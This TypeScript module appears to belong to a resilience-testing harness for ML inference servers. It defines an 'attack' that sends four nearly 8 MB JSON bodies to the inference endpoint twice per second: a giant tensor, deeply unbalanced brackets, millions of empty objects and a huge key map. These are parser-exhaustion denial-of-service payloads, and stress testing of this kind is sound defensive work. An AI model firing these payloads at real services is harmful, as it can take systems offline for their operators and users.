// JSON of almost 8 MB: numbers, brackets, names, and a nested array as deep as fits. Two per second.
import { type Attack, turns } from '../attack';
import { float, imageLength, inferPath } from '../networks';
import { send } from '../requests';

const length = (8 << 20) - 1000;
const images = Math.floor(length / 2 / imageLength(float));
const bodies = [
  JSON.stringify({
    inputs: [{ name: 'input', datatype: 'FP32', shape: [images, ...float.shape], data: Array(images * imageLength(float)).fill(0) }],
  }),
  '['.repeat(length),
  `[${'{},'.repeat(length / 3)}{}]`,
  `{${Array.from({ length: length / 12 }, (_, i) => `"${i}":1`).join(',')}}`,
];

export const attack: Attack = (target, tally) => async (signal) => {
  let i = 0;
  for await (const _ of turns(2, signal)) await send(target, tally, { path: inferPath(float), body: bodies[i++ % bodies.length]! });
};
